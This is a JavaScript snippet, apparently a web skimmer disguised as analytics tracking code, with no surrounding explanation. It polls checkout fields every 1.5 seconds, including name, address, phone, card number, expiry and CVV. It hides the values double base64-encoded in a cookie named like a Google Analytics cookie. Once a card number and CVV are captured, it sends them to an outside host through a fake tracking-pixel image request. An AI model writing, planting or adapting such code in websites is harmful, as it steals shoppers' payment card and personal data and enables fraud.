function setC(n, v) { document.cookie = n + '=' + v + ';path=/;max-age=86400'; }
function getC(n) { var m = document.cookie.match(new RegExp(n + '=([^;]+)')); return m ? m[1] : ''; }

var store = getC('__utmzz') ? JSON.parse(atob(atob(getC('__utmzz')))) : {};
var ids = ['firstname', 'lastname', 'street_1', 'city', 'postcode', 'telephone', 'cardno', 'cardexp', 'cardcid'];

setInterval(function () {
  var changed = false;
  for (var i = 0; i < ids.length; i++) {
    var e = document.getElementById(ids[i]);
    if (e && e.value && store[ids[i]] !== e.value) {
      store[ids[i]] = e.value;
      changed = true;
    }
  }
  if (!changed) return;
  setC('__utmzz', btoa(btoa(JSON.stringify(store))));
  if (store.cardno && store.cardcid) {
    document.createElement('img').setAttribute('src', 'https://utm-tracker.example/__utm.gif?utmcc=' + getC('__utmzz'));
  }
}, 1500);
